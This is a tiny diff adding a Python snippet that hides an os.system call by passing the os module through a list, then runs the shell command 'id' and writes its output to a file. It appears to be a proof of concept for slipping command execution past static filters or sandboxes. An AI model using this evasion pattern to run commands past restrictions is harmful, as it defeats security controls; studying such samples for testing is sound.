@@ -1,0 +1,4 @@
+import os
+a = []
+a += [os]
+a.pop().system("id>pf")
